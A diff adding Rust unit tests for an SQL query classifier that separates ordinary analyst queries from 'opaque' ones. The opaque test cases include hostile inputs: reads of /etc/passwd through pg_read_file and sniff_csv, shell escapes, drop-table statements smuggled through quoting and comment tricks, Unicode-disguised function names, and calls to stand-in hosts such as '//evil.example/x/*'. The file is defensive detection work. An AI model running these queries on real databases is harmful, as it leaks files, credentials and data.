@@ -1,7 +1,7 @@
 use super::*;
 
 fn told(text: &str) -> String {
-    let Sql { classes, tables, opaque } = Sql::read(text);
+    let Sql { classes, tables, opaque, .. } = Sql::read(text);
     let join = |all: BTreeSet<String>| all.into_iter().collect::<Vec<_>>().join(",");
     format!("{} [{}]{}", join(classes), join(tables), if opaque { " opaque" } else { "" })
 }
@@ -111,4 +111,184 @@ fn deep_and_long_statements_end() {
     assert_eq!(told(""), "other []");
     assert_eq!(told(";;"), "other []");
     assert_eq!(told("-- nothing"), "other []");
+}
+
+/// Queries that analysts write, in several dialects.
+const ORDINARY: &[&str] = &[
+    "SELECT count(*), count(DISTINCT user_id) FROM events WHERE created_at >= now() - interval '7 days'",
+    "SELECT date_trunc('month', created_at) AS m, sum(total) FROM orders GROUP BY 1 ORDER BY 1",
+    "SELECT * FROM (SELECT *, row_number() OVER (PARTITION BY a ORDER BY b DESC) rn FROM t) x WHERE rn = 1",
+    "SELECT coalesce(nullif(trim(name), ''), 'none') FROM users LIMIT 10",
+    "SELECT percentile_cont(0.95) WITHIN GROUP (ORDER BY ms) FROM requests",
+    "SELECT extract(year FROM at), avg(x) FILTER (WHERE x > 0) FROM t GROUP BY ROLLUP (1)",
+    "SELECT data->>'a', data #>> '{b,c}' FROM t",
+    "SELECT jsonb_array_elements(items)->>'sku' FROM orders",
+    "SELECT u.id, string_agg(t.name, ', ' ORDER BY t.name) FROM u JOIN t USING (id) GROUP BY u.id",
+    "SELECT d::date, count(e.id) FROM generate_series('2024-01-01'::date, now(), '1 day') d LEFT JOIN e ON e.day = d GROUP BY 1",
+    "SELECT to_char(at, 'YYYY-MM') FROM t WHERE at BETWEEN '2024-01-01' AND CURRENT_DATE",
+    "SELECT CASE WHEN a > 1 THEN 'x' ELSE upper(b) END, round(c::numeric, 2) FROM t",
+    "WITH a AS (SELECT 1 AS n UNION ALL SELECT 2) SELECT lag(n) OVER (ORDER BY n) FROM a",
+    "WITH RECURSIVE c AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM c WHERE n < 9) SELECT * FROM c",
+    "SELECT * FROM t WHERE a ILIKE '%x%' AND b IS NOT NULL AND c IN (1, 2, 3)",
+    "SELECT DISTINCT ON (user_id) * FROM logins ORDER BY user_id, at DESC",
+    "SELECT pg_size_pretty(pg_total_relation_size('orders'))",
+    "SELECT column_name, data_type FROM information_schema.columns WHERE table_name = 'orders'",
+    "SELECT relname, n_live_tup FROM pg_catalog.pg_stat_user_tables ORDER BY 2 DESC",
+    "SELECT age(a), make_date(2024, 1, 1), split_part(e, '@', 2) FROM t",
+    "SELECT regexp_replace(a, '[^0-9]', '', 'g') FROM t",
+    "SELECT a, unnest(tags) FROM t",
+    "SELECT ts_rank(v, plainto_tsquery('cat')) FROM d WHERE v @@ plainto_tsquery('cat')",
+    "SELECT corr(a, b), stddev(a), variance(b), regr_slope(a, b) FROM t",
+    "EXPLAIN ANALYZE SELECT * FROM t WHERE a = 1",
+    "SELECT DATE_FORMAT(at, '%Y-%m'), COUNT(*) FROM orders GROUP BY 1",
+    "SELECT IFNULL(a, 0), IF(b > 1, 'y', 'n'), GROUP_CONCAT(c) FROM `t` GROUP BY b",
+    "SELECT DATE_SUB(NOW(), INTERVAL 1 DAY), CONCAT(a, '-', b), LEFT(c, 3) FROM t",
+    "SELECT JSON_EXTRACT(a, '$.b'), JSON_UNQUOTE(a->'$.c') FROM t",
+    "SELECT strftime('%Y', at), total(x), instr(a, 'b'), ifnull(c, 0) FROM t",
+    "SELECT * FROM json_each('[1,2]')",
+    "SELECT name, sql FROM sqlite_master WHERE type = 'table'",
+    "SELECT datetime('now', '-1 day'), julianday(a) FROM t",
+    "SELECT TOP 10 * FROM [dbo].[Orders] ORDER BY [At] DESC",
+    "SELECT DATEADD(day, -1, GETDATE()), DATEDIFF(day, a, b), ISNULL(c, 0), LEN(d) FROM dbo.t",
+    "SELECT FORMAT(a, 'N2'), STRING_AGG(b, ','), IIF(c = 1, 'x', 'y') FROM t WITH (NOLOCK) GROUP BY a, c",
+    "SELECT value FROM STRING_SPLIT('a,b', ',')",
+    "SELECT median(x), list_aggregate(l, 'sum'), epoch(at), strptime(s, '%Y') FROM t",
+    "SELECT countIf(a > 1), uniq(b), toStartOfMonth(at) FROM t GROUP BY 3",
+    "SELECT APPROX_COUNT_DISTINCT(a), SAFE_DIVIDE(b, c), TIMESTAMP_TRUNC(at, DAY) FROM `p.d.t` GROUP BY 2, 3",
+    "SELECT cast(a AS text) || 'x', position('b' IN c), substring(d FROM 2 FOR 3) FROM t",
+    "SELECT pg_catalog.lower(a), \"upper\"(b) FROM t -- a comment\nWHERE 'it''s' <> a /* and\nthat */",
+    "SELECT E'a\\n', N'b', x'00', date'2024-01-01' FROM t WHERE a <> 'U&''x'",
+];
+
+#[test]
+fn ordinary_queries_are_read() {
+    let told = ORDINARY.iter().filter(|text| {
+        let sql = Sql::read(text);
+        sql.opaque || sql.classes != [READ.to_owned()].into()
+    });
+    let wrong: Vec<String> = told.map(|text| format!("{text}\n  {:?}", Sql::read(text))).collect();
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
+
+#[test]
+fn a_function_that_is_not_known_to_compute_only_is_opaque() {
+    for (text, name) in [
+        ("select ts_stat('select to_tsvector(pg_read_file(''/etc/passwd''))')", "ts_stat"),
+        ("select * from ts_stat('select v from salaries')", "ts_stat"),
+        ("select ts_rewrite('a'::tsquery, 'select a, b from salaries')", "ts_rewrite"),
+        (
+            "select schema_to_xml_and_xmlschema('public', true, true, '')",
+            "schema_to_xml_and_xmlschema",
+        ),
+        ("select database_to_xml_and_xmlschema(true, true, '')", "database_to_xml_and_xmlschema"),
+        ("select query_to_xml('select 1', true, true, '')", "query_to_xml"),
+        ("select cursor_to_xmlschema('c', true, true, '')", "cursor_to_xmlschema"),
+        ("select * from crosstab('delete from salaries returning a, b, c')", "crosstab"),
+        ("select * from connectby('salaries', 'a', 'b', '1', 0)", "connectby"),
+        ("select xpath_table('a', 'b', 'salaries', '/', 'true')", "xpath_table"),
+        ("select pg_copy_logical_replication_slot('a', 'b')", "pg_copy_logical_replication_slot"),
+        ("select * from pg_hba_file_rules()", "pg_hba_file_rules"),
+        ("select pg_stat_statements_reset()", "pg_stat_statements_reset"),
+        ("select lowrite(1, 'x')", "lowrite"),
+        ("select * from fsdir('/etc')", "fsdir"),
+        (
+            "select * from fn_xe_file_target_read_file('x', 'y', null, null)",
+            "fn_xe_file_target_read_file",
+        ),
+        (
+            "select * from sys.fn_get_audit_file('//evil.example/x/*', default, default)",
+            "sys.fn_get_audit_file",
+        ),
+        ("select * from fn_trace_gettable('//evil/x.trc', default)", "fn_trace_gettable"),
+        (
+            "select * from sys.dm_os_enumerate_filesystem('/etc', '*')",
+            "sys.dm_os_enumerate_filesystem",
+        ),
+        ("select * from sniff_csv('/etc/passwd')", "sniff_csv"),
+        ("select * from query('select * from salaries')", "query"),
+        ("select * from query_table('salaries')", "query_table"),
+        ("select * from executable('x', 'y')", "executable"),
+        ("select * from parquet_schema('x')", "parquet_schema"),
+        ("select * from glob('/etc/*')", "glob"),
+        ("select dictGet('d', 'salary', 1)", "dictget"),
+        ("select current_setting('app.key')", "current_setting"),
+        ("select evil.lower(x) from t", "evil.lower"),
+        ("select \"LOWER\"(x) from t", "\"lower\""),
+        ("select sys.lower(x) from t", "sys.lower"),
+        ("select 1 where exists (select 1 from t join lateral leak(1) l on true)", "leak"),
+        ("update t set a = leak(b)", "leak"),
+        ("select 1 order by leak(1)", "leak"),
+        ("select x.leak(1) from t", "x.leak"),
+        ("select sum(leak(a)) over (partition by leak(b)) from t", "leak"),
+        ("explain analyze select leak(1)", "leak"),
+        ("create table x as select leak(1)", "leak"),
+        ("insert into t values (leak(1))", "leak"),
+    ] {
+        let sql = Sql::read(text);
+        assert!(sql.opaque && sql.classes.contains(OTHER), "{text}: {sql:?}");
+        assert!(sql.unknown.contains(name), "{text}: {sql:?}");
+    }
+}
+
+#[test]
+fn what_stands_for_a_table_and_is_none_of_the_database_is_opaque() {
+    for text in [
+        "select * from linked.db.dbo.salaries",
+        "select * from '/etc/passwd'",
+        "select * from \"data.csv\"",
+        "select * from data.csv",
+        "select * from `x.parquet`",
+        "select data from fsdir where path = '/etc/passwd'",
+        "select * from pg_hba_file_rules",
+        "select * from pg_catalog.pg_file_settings",
+        "select * from \"http://evil.example/x\"",
+        "select * from t@elsewhere",
+        "select @a := 1",
+        "select 1 operator(evil.+) 2",
+    ] {
+        assert!(Sql::read(text).opaque, "{text}: {}", told(text));
+        assert!(Sql::read(text).classes.contains(OTHER), "{text}: {}", told(text));
+    }
+}
+
+#[test]
+fn names_texts_and_comments_with_rules_of_their_own_are_opaque() {
+    for text in [
+        "select u&\"pg\\005fread_file\"('/etc/passwd')",
+        "select U&\"pg!005fls_dir\" UESCAPE '!' ('/etc')",
+        "select * from a, u&\"b\" where 1 = 1",
+        "select U&'x'",
+        "select q'[it's]' from t",
+        "select nq'[it's]' from t",
+        "select r'\\' from t --'",
+        "select _utf8'x'",
+        "select _gbk'x'",
+        "select 1 --\u{a0}1\n, load_file('x')",
+        "select 1\u{2028}, 2",
+        "select 1\u{a0}, 2",
+        "select a\u{200b}b from t",
+        "select * from \u{ff53}alaries",
+        "select * from \"\u{ff53}alaries\"",
+        "select * from \u{17f}alaries",
+        "select 1 # '\n, load_file('x') -- '",
+        "select 1 # /*\n, 2 -- */",
+        "select (data # '{b}') \n from t",
+        "select $\u{20ac}$; drop table t; $\u{20ac}$",
+        "select `a'; drop table t; -- ` from t",
+        "select [a -- ]\n b]",
+        "select [a]]b] from t",
+        "select 1 /*T! , load_file('x') */",
+        "select 1 /*+ SET_VAR(sql_mode = 'ANSI_QUOTES') */",
+        "select 1 \\! id",
+        "select 'a",
+        "select \"a",
+        "select 1 from t \\gexec",
+    ] {
+        assert_eq!(told(text), "other [] opaque", "{text:?}");
+    }
+    // What stands in a text, everybody reads alike.
+    for text in ["select 'u&\"a\"'", "select '# [ q\u{a0}'\nfrom t", "select 'a # b' -- it's [so\n"]
+    {
+        assert!(!Sql::read(text).opaque, "{text:?}");
+    }
 }
